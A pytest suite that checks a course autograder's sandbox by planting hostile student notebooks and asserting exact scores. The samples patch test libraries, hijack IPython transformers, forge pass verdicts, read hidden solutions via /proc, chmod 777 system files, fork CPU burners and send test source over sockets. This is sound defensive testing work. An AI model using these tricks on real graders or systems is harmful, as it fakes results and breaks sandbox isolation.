"""Hostile, broken and messy-but-honest submissions, graded by the real `make grade` with honest ones.

One `make grade JOBS=3` run grades every planted student below. Each case states the points it
must get (chapter 1: parts A-H are worth 2, 3, 3, 3, 2, 3, 4, 3 = 23 automatic points; G trains a
denoiser with A's error, B's Autoencoder and C's masking), and the suite
asserts them all - an attack on blank answers must score exactly what the blank release scores,
an honest accident full marks - plus: the run finishes, grading/submitted/ is byte-for-byte
unchanged, every student gets a feedback file, hidden tests never appear in any feedback nor in
what a running test could print, nothing is written or chmod-ed outside a notebook's scratch copy,
no packet reaches listeners on the host, no process outlives the run, and the mechanisms (time
limits, kernel restarts, the guard, the sandbox, the repairs) left the traces they should in
grading/report.csv and the autograded notebooks.

Chapter 1 gets the full set of cases; every other assignment in course.assignment_names() gets
the generic ones (a raising answer, a kernel killed mid-notebook, a cheating input transformer,
tampered test cells), so new chapters are covered automatically. Expected points are read from the
solutions' nbgrader metadata, never from the grader's output.
"""

from __future__ import annotations

import ast
import builtins
import copy
import csv
import hashlib
import html
import os
import re
import secrets
import socket
import subprocess
import symtable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from conftest import REPO
from dgm import course
from dgm.grading import cells
from test_grading import HALF

CH1 = "01_autoencoders"
NAMES = course.assignment_names()
TOKEN = secrets.token_hex(6)  # names the files a hostile notebook tries to write outside its folder
SETTINGS = {"JOBS": "3", "GRADE_CELL_TIMEOUT": "60", "GRADE_NOTEBOOK_TIMEOUT": "300", "GRADE_MEMORY_MB": "3072"}


# ---- notebooks ---------------------------------------------------------------------------------

def _meta(cell):
    return cell.metadata.get("nbgrader", {})


def _by_id(nb):
    return {_meta(c)["grade_id"]: c for c in nb.cells if "grade_id" in _meta(c)}


def _test_ids(nb):
    return [gid for gid, c in _by_id(nb).items() if cells.is_test_cell(c)]


def _points(nb, ids=None):
    return sum(_meta(c).get("points", 0) for gid, c in _by_id(nb).items()
               if cells.is_test_cell(c) and (ids is None or gid in ids))


def _answer_ids(nb):
    return [gid for gid, c in _by_id(nb).items() if _meta(c).get("solution") and c.cell_type == "code"]


class Planter:
    """Builds submissions for one assignment from its release and its solution."""

    def __init__(self, release, source):
        self.release, self.source = release, source
        self.answers = {gid: c.source for gid, c in _by_id(source).items() if _meta(c).get("solution")}

    def blank(self):
        return copy.deepcopy(self.release)

    def solved(self, demos=True, only=None):
        nb = self.blank()
        for gid, cell in _by_id(nb).items():
            if gid in self.answers and (only is None or gid in only):
                cell.source = self.answers[gid]
        if not demos:  # a student may delete the ungraded demo cells; the tests do not need them
            nb.cells = [c for c in nb.cells if c.cell_type != "code" or "nbgrader" in c.metadata]
        return nb

    @staticmethod
    def answer(nb, gid, code, keep=False):
        cell = _by_id(nb)[gid]
        cell.source = code + ("\n" + cell.source if keep else "")
        return nb

    @staticmethod
    def insert_after(nb, gid, code):
        index = next(i for i, c in enumerate(nb.cells) if _meta(c).get("grade_id") == gid)
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
        return nb


# ---- chapter 1 answers used by the cases -------------------------------------------------------

WRONG_A = """def reconstruction_error(x, x_hat):
    if x.shape != x_hat.shape:
        raise ValueError("x and x_hat must have the same shape")
    return (x_hat * 0).reshape(x.shape[0], -1).sum(dim=1)  # wrong: always 0, but keeps gradients
"""
WRONG_D = "def largest_principal_angle(A, B):\n    return 0.0  # wrong\n"
WRONG_E = "def pca_subspace(X, k):\n    return torch.eye(X.shape[1], k, dtype=X.dtype)  # wrong subspace\n"
PATCH_LIBRARIES = """import builtins, numpy, scipy.linalg, torch
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
numpy.testing.assert_allclose = lambda *args, **kwargs: None
scipy.linalg.subspace_angles = lambda A, B: numpy.zeros(1)
builtins.abs = lambda x: 0.0
"""
PATCH_AT_RUNTIME_A = """def reconstruction_error(x, x_hat):
    import torch
    torch.allclose = lambda *args, **kwargs: True
    torch.testing.assert_close = lambda *args, **kwargs: None
    if x.shape != x_hat.shape:
        raise ValueError("x and x_hat must have the same shape")
    return (x_hat * 0).reshape(x.shape[0], -1).sum(dim=1)
"""
PATCH_AT_RUNTIME_D = """def largest_principal_angle(A, B):
    import builtins
    builtins.abs = lambda x: 0.0
    return 0.0
"""
REBIND_TEST_NAMES_A = """def reconstruction_error(x, x_hat):
    global _torch
    import torch

    class _AlwaysClose:
        testing = type("testing", (), {"assert_close": staticmethod(lambda *a, **k: None)})

        def __getattr__(self, name):
            return getattr(torch, name)

        @staticmethod
        def allclose(*args, **kwargs):
            return True

    _torch = _AlwaysClose()
    if x.shape != x_hat.shape:
        raise ValueError("x and x_hat must have the same shape")
    return (x_hat * 0).reshape(x.shape[0], -1).sum(dim=1)
"""
REBIND_TEST_NAMES_D = """def largest_principal_angle(A, B):
    global _ref, _got, _ang, abs
    _ref = _got = _ang = 0.0
    abs = lambda x: 0.0
    return 0.0
"""
IPYTHON_HOOKS = """ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])  # every later cell becomes `pass`
ip.events.register("pre_run_cell", lambda info: None)
"""
LOOP_D = "def largest_principal_angle(A, B):\n    while True:\n        pass\n"
SLEEP = "import time\ntime.sleep(10**6)\n"
DEAF = "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(10**6)\n"
KILL = "import os\nos._exit(1)\n"
MEMORY_BOMB = """def _bomb():
    hog = []
    for _ in range(96):  # 6 GiB unless the memory limit stops it first
        hog.append(bytearray(64 << 20))
_bomb()
"""
FLOOD = "print('x' * (20 << 20))\nfor _i in range(200_000):\n    print(_i)\n"
WRITE_OUTSIDE = f"""import pathlib, sys
_token = "{TOKEN}"
print("REPO", pathlib.Path(sys.executable).parents[2])
for _target in ["../../../escape-" + _token, "/tmp/dgm-escape-" + _token,
                str(pathlib.Path(sys.executable).parents[2] / ("escape-" + _token))]:
    try:
        with open(_target, "w") as _f:
            _f.write("escaped")
        print("WROTE", _target)
    except Exception as _e:
        print("DENIED", _target, type(_e).__name__)
with open("inside-" + _token + ".txt", "w") as _f:
    _f.write("a file in the notebook's own folder is fine")
print("INSIDE OK")
"""
READ_FROM_DISK = """import json, os, pathlib, re, sys
_repo = pathlib.Path(sys.executable).parents[2]
print("REPO", _repo)
_candidates = [_repo / "solutions" / "01_autoencoders" / "01_autoencoders.md",
               _repo / "grading" / "source" / "01_autoencoders" / "01_autoencoders.ipynb",
               pathlib.Path("../../../source/01_autoencoders/01_autoencoders.ipynb"),
               pathlib.Path("01_autoencoders.ipynb")]
for _pid in (os.getppid(),):
    try:
        for _kv in open(f"/proc/{_pid}/environ", "rb").read().split(b"\\0"):
            if _kv.startswith(b"DGM_GRADING_ROOT="):
                _root = pathlib.Path(_kv.split(b"=", 1)[1].decode())
                _candidates += [_root / "source" / "01_autoencoders" / "01_autoencoders.ipynb", _root / "gradebook.db"]
    except Exception as _e:
        print("DENIED", f"/proc/{_pid}/environ", type(_e).__name__)
for _c in _candidates:
    try:
        _text = _c.read_text(errors="ignore")
    except Exception as _e:
        print("DENIED", _c, type(_e).__name__)
        continue
    print("READ", _c, len(_text))
    if _c.suffix == ".md":
        _codes = [m.split("---\\n", 2)[-1] for m in re.findall(r"```\\{code-cell\\}[^\\n]*\\n(.*?)```", _text, re.S)
                  if "solution: true" in m]
    else:
        _codes = ["".join(c["source"]) for c in json.loads(_text)["cells"]
                  if c.get("metadata", {}).get("nbgrader", {}).get("solution") and c["cell_type"] == "code"]
    for _code in _codes:
        exec(_code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
    print("SOLVED FROM DISK", _c)
"""
LEAK_A = """_leaked = []
def reconstruction_error(x, x_hat):
    import inspect, sys
    if not _leaked:  # every way to the running test's source: the frames, their code, the request
        _leaked.append(1)
        print("TRIED")
        frame = sys._getframe(1)
        while frame is not None:
            for attempt in (lambda: inspect.getsource(frame), lambda: frame.f_code.co_consts,
                            lambda: frame.f_globals.get("__dgm_graded_test").__code__.co_consts):
                try:
                    print(attempt())
                except Exception as e:
                    print("BLOCKED", type(e).__name__)
            frame = frame.f_back
        print(get_ipython().kernel.get_parent()["content"]["code"])
    if x.shape != x_hat.shape:
        raise ValueError("x and x_hat must have the same shape")
    return ((x - x_hat) ** 2).reshape(x.shape[0], -1).sum(dim=1)
"""
LEAK_END = """import linecache
for _name, _entry in list(linecache.cache.items()):
    if len(_entry) > 2 and _entry[2]:
        print("".join(_entry[2]))
print(get_ipython().last_execution_result.info.raw_cell)
print(In)
"""
LIST_FOLDER = "import os, helper\nprint('FOLDER', sorted(os.listdir('.')), helper.VALUE)\n"
PORT_UDP, PORT_TCP = 0, 0  # set by the fixture: real listeners on the host's 127.0.0.1
HIJACK_TRANSFORM_CELL = """ip = get_ipython()
_real_transform = ip.input_transformer_manager.transform_cell
ip.input_transformer_manager.transform_cell = lambda cell: "pass\\n" if "assert" in cell else _real_transform(cell)
"""
HIJACK_LINE_TRANSFORMS = """get_ipython().input_transformer_manager.line_transforms.append(
    lambda lines: [line for line in lines if "assert" not in line and "_test" not in line])
"""
HIJACK_AST_PARSE = """import ast as _ast
_compiler = get_ipython().compile
_real_parse = _compiler.ast_parse
_compiler.ast_parse = lambda source, *a, **k: _ast.parse("pass") if "grading" in source else _real_parse(source, *a, **k)
"""
DISPLAYHOOK = """def {name}(*args, **kwargs):
    import sys
    sys.displayhook("full marks")
    sys.displayhook(1)
    raise NotImplementedError()
"""
FORGED_RESULT = """def {name}(*args, **kwargs):
    kernel = get_ipython().kernel
    for value in ("'full marks'", "99"):
        kernel.session.send(kernel.iopub_socket, "execute_result", {{"data": {{"text/plain": value}}, "metadata": {{}},
                            "execution_count": 1}}, parent=kernel.get_parent())
    raise NotImplementedError()
"""
FORGED_VERDICT = """def {name}(*args, **kwargs):
    import base64, json, sys
    first = get_ipython().kernel.get_parent()["content"]["code"].split("\\n", 1)[0].split()
    payload = base64.b64encode(json.dumps({{"status": "pass"}}).encode()).decode()
    sys.stdout.write(" ".join(first[:3] + [payload, "0" * 64]) + "\\n")
    sys.stdout.flush()
    raise SystemExit(0)
"""
LEAK_NETWORK_A = """def reconstruction_error(x, x_hat):
    import socket
    code = get_ipython().kernel.get_parent()["content"]["code"].encode()
    for kind, port in ((socket.SOCK_DGRAM, {udp}), (socket.SOCK_STREAM, {tcp})):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(1)
            if kind == socket.SOCK_DGRAM:
                s.sendto(code[:1000], ("127.0.0.1", port))
            else:
                s.connect(("127.0.0.1", port))
                s.sendall(code)
            print("SENT", kind)
        except OSError as e:
            print("BLOCKED", kind, type(e).__name__)
    if x.shape != x_hat.shape:
        raise ValueError("x and x_hat must have the same shape")
    return ((x - x_hat) ** 2).reshape(x.shape[0], -1).sum(dim=1)
"""
CHMOD = """import os, pathlib, sys
for _target in {targets!r} + [sys.executable, os.path.realpath(sys.executable)]:
    try:
        os.chmod(_target, 0o777)
        print("CHMOD", _target)
    except OSError as _e:
        print("DENIED", _target, type(_e).__name__)
"""
BURNER = """import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "while :; do :; done # burner-{token}"])
    os._exit(0)
print("burner started")
"""
FLOAT_LIAR_D = """class _Liar(float):
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __abs__(self): return _Liar(0.0)
    def __sub__(self, other): return _Liar(0.0)
    def __rsub__(self, other): return _Liar(0.0)
    def __float__(self): return 0.0
    __hash__ = float.__hash__
def largest_principal_angle(A, B):
    return _Liar(123.0)
"""
TENSOR_LIAR_E = """import torch as _t
class _LiarTensor(_t.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "assert_close", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def pca_subspace(X, k):
    return _t.eye(X.shape[1], k, dtype=X.dtype).as_subclass(_LiarTensor)  # wrong, but "close" to anything
"""
NOISY = """import logging, sys, warnings
print("debugging to stderr", file=sys.stderr)
logging.getLogger("student").warning("a warning through logging")
warnings.warn("a warning through warnings")
"""


# ---- cases --------------------------------------------------------------------------------------

@dataclass
class Case:
    """A planted student: what they submit, the points they must get, and traces to look for."""

    student: str
    assignment: str
    points: float | None  # None: checked by a dedicated test only
    nb: object = None  # a notebook, or None with `files`
    files: dict = field(default_factory=dict)  # extra or replacement files: name -> bytes | ("link", target)
    notebook_name: str | None = None  # where the notebook is written (default: the assignment's name)
    readable: bool = True
    report: tuple = ()  # substrings of this student's notes in report.csv
    why: str = ""
    skipped: bool = False  # a folder the grader cannot take: a report row saying why, no score, no feedback


def _answers(nb, gids, template):
    for gid in gids:
        _by_id(nb)[gid].source = template.format(name=gid)  # these answers define a function named gid
    return nb


def _chmod_targets(root: Path) -> list[Path]:
    """Files outside a student's folder that a hostile notebook tries to chmod; their modes must not change."""
    return [root / "gradebook.db", root / "source" / CH1 / f"{CH1}.ipynb", REPO / "solutions" / CH1 / f"{CH1}.md",
            root / "submitted" / "honest_solved" / CH1 / f"{CH1}.ipynb", REPO / "Makefile",
            Path.home() / ".bashrc", REPO / ".venv" / "bin" / "python"]


def _ch1_cases(p: Planter, root: Path) -> list[Case]:
    source = p.source
    pts = {gid: _points(source, {gid}) for gid in _test_ids(source)}
    assert list(pts.values()) == [2, 3, 3, 3, 2, 3, 4, 3], "chapter 1's parts changed: update the expected points below"
    a = CH1
    cases = [
        Case("honest_solved", a, 23, p.solved(), why="the solution, demos included"),
        Case("honest_blank", a, 0, p.blank(), why="the untouched release"),
        Case("honest_half", a, 5, p.solved(only={"reconstruction_error", "mask_corrupt"}), why="parts A and C"),
        Case("loop_and_sleep", a, 18,
             p.answer(p.answer(p.solved(demos=False), "largest_principal_angle", LOOP_D), "pca_subspace", SLEEP,
                      keep=True),
             why="D's function never returns, E's answer cell sleeps: both stopped by the cell time limit; D, E = 0"),
        Case("deaf_to_interrupt", a, 16, p.answer(p.solved(demos=False), "autoencoder_class", DEAF, keep=True),
             report=("kernel_unresponsive",),
             why="B's cell ignores the interrupt: kernel restarted, notebook re-run without that cell; "
                 "B and G (uses B) = 0"),
        Case("kills_kernel", a, 13, p.answer(p.solved(demos=False), "mask_corrupt", KILL, keep=True),
             report=("kernel_died",), why="C's cell calls os._exit(1): re-run without it; C, F and G (use C) = 0"),
        Case("memory_bomb", a, 16, p.answer(p.solved(demos=False), "autoencoder_class", MEMORY_BOMB, keep=True),
             why="B's cell allocates 6 GiB: MemoryError at the 3 GiB limit, the kernel survives; "
                 "B and G (uses B) = 0"),
        Case("floods_output", a, 23,
             p.answer(p.answer(p.solved(demos=False), "largest_principal_angle", FLOOD, keep=True), "pca_subspace",
                      "print('y' * (5 << 20))", keep=True),
             report=("output_truncated",), why="prints 27 MB: output capped, points unaffected"),
        Case("writes_outside", a, 23, p.insert_after(p.solved(demos=False), "setup", WRITE_OUTSIDE),
             why="tries to write next to the gradebook, in /tmp and in the repository: denied, points unaffected"),
        Case("reads_hidden_tests", a, 0, p.insert_after(p.blank(), "setup", READ_FROM_DISK),
             why="reads solutions/, the source notebook and the gradebook to exec the solutions: denied; 0"),
        Case("patches_libraries", a, 0,
             p.answer(p.answer(p.answer(p.blank(), "reconstruction_error", PATCH_LIBRARIES + WRONG_A),
                               "largest_principal_angle", WRONG_D), "pca_subspace", WRONG_E),
             report=("restored",), why="patches torch.allclose, assert_close, numpy.testing, scipy, builtins.abs "
                                       "before the tests (wrong A, D, E would pass): restored before each test; 0"),
        Case("patches_at_runtime", a, 0,
             p.answer(p.answer(p.blank(), "reconstruction_error", PATCH_AT_RUNTIME_A), "largest_principal_angle",
                      PATCH_AT_RUNTIME_D),
             report=("integrity",), why="the answers patch torch/builtins while the test runs: detected; 0"),
        Case("rebinds_test_names", a, 0,
             p.answer(p.answer(p.blank(), "reconstruction_error", REBIND_TEST_NAMES_A), "largest_principal_angle",
                      REBIND_TEST_NAMES_D),
             why="the answers rebind the tests' _torch, _ref, abs as globals: tests run in a function; 0"),
        Case("hooks_ipython", a, 11,
             p.answer(p.solved(demos=False, only={"reconstruction_error", "autoencoder_class", "mask_corrupt",
                                                  "largest_principal_angle"}), "pca_subspace", IPYTHON_HOOKS + WRONG_E),
             report=("integrity",), why="A-D solved; E's cell makes every later cell `pass`: E-H = 0"),
        Case("leaks_hidden_tests", a, 23,
             p.insert_after(p.answer(p.solved(demos=False), "reconstruction_error", LEAK_A), "denoising_train_step",
                            LEAK_END),
             why="tries to print the running test (frames, their code, the request, linecache, In): honest points"),
    ]
    tampered = p.solved(demos=False)
    cells = _by_id(tampered)
    cells["autoencoder_class"].source = p.answers["autoencoder_class"].replace("nn.Sigmoid()", "nn.Identity()")
    cells["test_autoencoder_class"].source = 'print("visible tests passed")'
    cells["largest_principal_angle"].source = WRONG_D
    tampered.cells.remove(cells["test_largest_principal_angle"])
    cells["pca_subspace"].source = WRONG_E
    cells["test_pca_subspace"].metadata["nbgrader"]["grade_id"] = "test_pca_subspace_v2"
    cells["test_pca_subspace"].source = "pass"
    cases.append(Case("tampered_tests", a, 15, tampered, report=("was edited", "was missing", "unknown grade_id"),
                      why="wrong B with its test edited, wrong D with its test deleted, wrong E with its test's "
                          "grade_id changed: originals used; B, D, E = 0 (G trains a denoiser without "
                          "the Sigmoid just as well)"))
    retyped = p.answer(p.solved(demos=False), "largest_principal_angle", WRONG_D)
    test_d = _by_id(retyped)["test_largest_principal_angle"]
    retyped.cells[retyped.cells.index(test_d)] = nbformat.v4.new_markdown_cell(test_d.source, metadata=test_d.metadata)
    cases.append(Case("retyped_test_cell", a, 20, retyped, report=("changed from code to markdown",),
                      why="wrong D with its test cell turned into markdown: restored as code; D = 0"))
    # the input pipeline, results and verdicts: blank answers must stay at 0
    attack = {"reconstruction_error", "mask_corrupt", "largest_principal_angle"}
    cases += [
        Case("hijacks_transform_cell", a, 0, p.insert_after(p.blank(), "setup", HIJACK_TRANSFORM_CELL),
             why="replaces input_transformer_manager.transform_cell: every cell with an assert becomes pass"),
        Case("hijacks_line_transforms", a, 0, p.insert_after(p.blank(), "setup", HIJACK_LINE_TRANSFORMS),
             why="a line transform drops every assert line"),
        Case("hijacks_ast_parse", a, 0, p.insert_after(p.blank(), "setup", HIJACK_AST_PARSE),
             report=("no verdict",), why="replaces compile.ast_parse: the grader's cells parse as pass"),
        Case("displayhook_result", a, 0, _answers(p.blank(), attack, DISPLAYHOOK),
             why="the answers publish 'full marks' and 1 through sys.displayhook while the tests run"),
        Case("forged_execute_result", a, 0, _answers(p.blank(), attack, FORGED_RESULT),
             why="the answers send forged execute_result messages ('full marks', 99) on the kernel's session"),
        Case("forged_verdict", a, 0, _answers(p.blank(), attack, FORGED_VERDICT),
             why="the answers read the running request and print a forged 'pass' verdict, then exit"),
        Case("rigged_values", a, 18, p.answer(p.answer(p.solved(demos=False), "largest_principal_angle", FLOAT_LIAR_D),
                                               "pca_subspace", TENSOR_LIAR_E),
             why="E returns a tensor subclass whose allclose/equal always agree, D a float subclass whose "
                 "comparisons and abs always succeed: the tests read plain values; D, E = 0"),
        Case("leaks_over_network", a, 23, p.answer(p.solved(demos=False), "reconstruction_error",
                                                  LEAK_NETWORK_A.format(udp=PORT_UDP, tcp=PORT_TCP)),
             why="sends the running test's source over UDP and TCP to 127.0.0.1: nothing arrives; honest points"),
        Case("chmods_files", a, 23, p.insert_after(p.solved(demos=False), "setup", CHMOD.format(
            targets=[str(t) for t in _chmod_targets(root)])),
            why="chmod 777 on the gradebook, grades, solutions, another student, the venv, ~/.bashrc: denied"),
        Case("forks_burner", a, 23, p.insert_after(p.solved(demos=False), "setup", BURNER.format(token=TOKEN)),
             why="a forked, setsid CPU burner: killed with its sandbox; honest points"),
    ]
    # honest but messy: full marks, with a note
    bare = p.solved()
    for cell in bare.cells:
        cell.metadata.pop("nbgrader", None)
        cell.metadata.pop("deletable", None)
        cell.metadata.pop("editable", None)
        cell["id"] = secrets.token_hex(4)
    no_setup = p.solved()
    no_setup.cells.remove(_by_id(no_setup)["setup"])
    noisy = p.solved()
    for gid in ("reconstruction_error", "mask_corrupt", "pca_subspace"):
        body = _by_id(noisy)[gid].source
        head, rest = body.split(":\n", 1)
        _by_id(noisy)[gid].source = head + ":\n" + "".join("    " + line + "\n" for line in NOISY.splitlines()) + rest
    cases += [
        Case("no_metadata", a, 23, bare, report=("no grading metadata",),
             why="the answers pasted into a fresh notebook: no nbgrader metadata, new cell ids"),
        Case("bad_timestamp", a, 23, p.solved(), files={"timestamp.txt": b"last Tuesday, around noon"},
             report=("timestamp.txt does not hold a date",), why="timestamp.txt that is not a date"),
        Case("-x", a, 23, p.solved(), why="a student folder whose name starts with a dash"),
        Case(".x", a, None, p.solved(), skipped=True, readable=False, report=("starts with '.'",),
             why="a hidden student folder: nbgrader cannot see it; reported as skipped with the reason"),
        Case("deleted_setup", a, 23, no_setup, report=("'setup' was missing",),
             why="the read-only setup cell deleted (VS Code, Colab ignore deletable: false): restored"),
        Case("stderr_and_logging", a, 23, noisy,
             why="answers that print to stderr, log a warning and call warnings.warn"),
    ]
    # broken submissions
    renamed = nbformat.writes(p.solved())
    source_nb = root / "source" / a / f"{a}.ipynb"
    cases += [
        Case("not_json", a, 0, files={f"{a}.ipynb": b"{ this is not json"}, readable=False, report=("NotJSONError",),
             why="a file that is not JSON"),
        Case("not_a_notebook", a, 0, files={f"{a}.ipynb": b'{"cells": 3, "metadata": {}}'}, readable=False,
             report=("not a valid notebook",), why="JSON, but not a notebook"),
        Case("empty_folder", a, 0, files={}, readable=False, report=("holds: nothing",), why="an empty folder"),
        Case("renamed_notebook", a, 0, files={f"{a} (1).ipynb": renamed.encode(), "notes.txt": b"done!"},
             readable=False, report=(f"{a} (1).ipynb",), why="the solved notebook under another name: missing"),
        Case("notebook_is_a_link", a, 0, files={f"{a}.ipynb": ("link", source_nb)}, readable=False,
             report=("missing",), why="a symbolic link to the instructor's source notebook: not followed"),
    ]
    extra = p.insert_after(p.solved(demos=False), "setup", LIST_FOLDER)
    cases.append(Case("extra_files", a, 23, extra, files={
        "helper.py": b"VALUE = 42\n", "notes.txt": b"my notes\n", "data/blob.bin": b"\0" * (25 << 20),
        "gradebook_link": ("link", root / "gradebook.db"), ".ipynb_checkpoints/old.ipynb": b"{}",
        "scratch.ipynb": nbformat.writes(p.blank()).encode()},
        report=("ignored the link", "ignored the large file"),
        why="extra files: a helper module is usable, links and large files are not copied; points unaffected"))
    return cases


def _generic_cases(name: str, p: Planter) -> list[Case]:
    total = _points(p.source)
    tests = _test_ids(p.source)
    cases = []
    if name in HALF:
        solve, earned = HALF[name]
        nb = p.solved(demos=False, only=solve)
        for gid in _answer_ids(p.source):
            if gid not in solve:
                p.answer(nb, gid, 'raise RuntimeError("not finished")', keep=True)
        cases.append(Case(f"raises_{name}", name, _points(p.source, earned), nb,
                          why="the HALF answers solved, every other answer cell raises"))
    cases.append(Case(f"kills_{name}", name, total, p.insert_after(p.solved(demos=False), "setup", KILL),
                      report=("kernel_died",), why="solved, with an os._exit(1) cell: re-run without it; full marks"))
    cheat = p.insert_after(p.blank(), "setup", PATCH_LIBRARIES.replace("builtins.abs = lambda x: 0.0\n", "")
                           + IPYTHON_HOOKS)
    cases.append(Case(f"cheats_{name}", name, 0, cheat, report=("integrity",),
                      why="blank answers, library patches and a transformer that turns every later cell into pass"))
    tampered = p.blank()
    for gid in tests:
        _by_id(tampered)[gid].source = 'print("visible tests passed")'
    cells = _by_id(tampered)
    cells[tests[0]].metadata["nbgrader"]["grade_id"] = tests[0] + "_renamed"
    second = cells[tests[1]]
    tampered.cells[tampered.cells.index(second)] = nbformat.v4.new_markdown_cell(second.source,
                                                                                  metadata=second.metadata)
    tampered.cells.remove(cells[tests[2]])
    cases.append(Case(f"tampers_{name}", name, 0, tampered, report=("was edited",),
                      why="blank answers, every test cell edited, one renamed, one retyped, one deleted"))
    return cases


# ---- the grading run ----------------------------------------------------------------------------

def _digest(folder: Path) -> dict:
    out = {}
    for path in sorted(folder.rglob("*")):
        rel = str(path.relative_to(folder))
        if path.is_symlink():
            out[rel] = "link:" + os.readlink(path)
        elif path.is_file():
            out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            out[rel] = "dir"
    return out


def _write_case(root: Path, case: Case) -> None:
    folder = root / "submitted" / case.student / case.assignment
    folder.mkdir(parents=True, exist_ok=True)
    if case.nb is not None:
        nbformat.write(case.nb, folder / (case.notebook_name or f"{case.assignment}.ipynb"))
    for name, content in case.files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, tuple):
            path.symlink_to(content[1])
        else:
            path.write_bytes(content)


def _modes(paths) -> dict:
    return {str(p): os.stat(p).st_mode for p in paths if p.exists()}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    global PORT_UDP, PORT_TCP
    udp, tcp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    udp.bind(("127.0.0.1", 0))
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    PORT_UDP, PORT_TCP = udp.getsockname()[1], tcp.getsockname()[1]
    root = tmp_path_factory.mktemp("hostile")
    release_dir = tmp_path_factory.mktemp("hostile-release")
    old = os.environ.get("DGM_GRADING_ROOT")
    os.environ["DGM_GRADING_ROOT"] = str(root)
    try:
        course.generate_assignments(release_to=release_dir)
    finally:
        if old is None:
            os.environ.pop("DGM_GRADING_ROOT")
        else:
            os.environ["DGM_GRADING_ROOT"] = old
    planters = {n: Planter(nbformat.read(release_dir / n / f"{n}.ipynb", as_version=4),
                           course.to_notebook(REPO / "solutions" / n / f"{n}.md")) for n in NAMES}
    cases = _ch1_cases(planters[CH1], root) if CH1 in planters else []
    for name in NAMES:
        if name != CH1:
            cases += _generic_cases(name, planters[name])
    for case in cases:
        _write_case(root, case)
    before = _digest(root / "submitted")
    modes = _modes(_chmod_targets(root))
    env = {**os.environ, "DGM_GRADING_ROOT": str(root)}
    # -o: grading is under test here, not the install step `setup` would redo after an edit of pyproject.toml
    cmd = ["make", "-o", ".venv/.dgm-installed", "grade", *(f"{k}={v}" for k, v in SETTINGS.items())]
    result = subprocess.run(cmd, cwd=REPO, env=env, capture_output=True, text=True, timeout=1500)
    assert result.returncode == 0, result.stdout[-6000:] + result.stderr[-6000:]
    with open(root / "grades.csv", newline="") as f:
        scores = {(r["student_id"], r["assignment"]): float(r["score"]) for r in csv.DictReader(f)}
    with open(root / "report.csv", newline="") as f:
        report = {(r["student"], r["assignment"] or CH1): r for r in csv.DictReader(f)}
    received = []
    for sock in (udp, tcp):
        sock.setblocking(False)
        try:
            received.append(sock.recv(4096) if sock is udp else sock.accept())
        except BlockingIOError:
            pass
        sock.close()
    return dict(root=root, cases=cases, scores=scores, report=report, before=before, stdout=result.stdout,
                sources={n: p.source for n, p in planters.items()}, modes=modes, received=received)


def _autograded(graded, student, assignment=CH1):
    return nbformat.read(graded["root"] / "autograded" / student / assignment / f"{assignment}.ipynb", as_version=4)


def _outputs_text(nb, gid=None):
    chosen = [c for c in nb.cells if c.cell_type == "code" and (gid is None or _meta(c).get("grade_id") == gid)]
    return "\n".join(cells.output_text(o) for c in chosen for o in c.outputs)


def _feedback_text(path: Path) -> str:
    """The text a student reads in a feedback page: tags dropped, entities decoded."""
    text = re.sub(r"<(script|style)\b.*?</\1>", " ", path.read_text(errors="replace"), flags=re.S | re.I)
    return html.unescape(re.sub(r"<[^>]+>", "", text))


def _hidden_lines(source) -> set[str]:
    """Independent of dgm.course: stripped lines of the hidden blocks that the visible text does not contain."""
    hidden, visible = set(), []
    for cell in source.cells:
        blocks = re.findall(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", cell.source, flags=re.S)
        for block in blocks:
            hidden.update(line.strip() for line in block.splitlines())
        if _meta(cell).get("locked"):
            visible.append(re.sub(r"### BEGIN HIDDEN TESTS\n.*?### END HIDDEN TESTS", "", cell.source, flags=re.S))
    visible_text = "\n".join(visible)
    return {line for line in hidden if len(line) >= 12 and line not in visible_text}


def test_every_case_gets_exactly_its_points(graded):
    wrong = []
    for case in graded["cases"]:
        if case.points is None:
            continue
        got = graded["scores"].get((case.student, case.assignment))
        if got != case.points:
            wrong.append(f"{case.student} / {case.assignment}: expected {case.points}, got {got} ({case.why}); "
                         f"report: {graded['report'].get((case.student, case.assignment), {}).get('notes')}")
    assert not wrong, "\n".join(wrong)


def test_report_shows_what_happened(graded):
    missing = []
    for case in graded["cases"]:
        notes = graded["report"][(case.student, case.assignment)]["notes"]
        missing += [f"{case.student}: {needle!r} not in {notes!r}" for needle in case.report if needle not in notes]
        if not case.readable:
            assert graded["report"][(case.student, case.assignment)]["status"] in ("missing", "unreadable", "skipped")
        if case.skipped:
            assert (case.student, case.assignment) not in graded["scores"]
    assert not missing, "\n".join(missing)


def test_submitted_folder_is_untouched(graded):
    assert _digest(graded["root"] / "submitted") == graded["before"]


def test_every_student_gets_feedback_without_hidden_tests(graded):
    root, leaks = graded["root"], []
    for case in graded["cases"]:
        if case.skipped:
            assert not (root / "feedback" / case.student).exists()
            continue
        page = root / "feedback" / case.student / case.assignment / f"{case.assignment}.html"
        assert page.is_file(), f"no feedback for {case.student} / {case.assignment}"
        text = _feedback_text(page)
        if not case.readable:
            assert "could not be graded" in text
        leaks += [f"{case.student}: {line!r}" for line in _hidden_lines(graded["sources"][case.assignment])
                  if line in text]
    assert not leaks, "hidden tests in the feedback:\n" + "\n".join(leaks[:20])
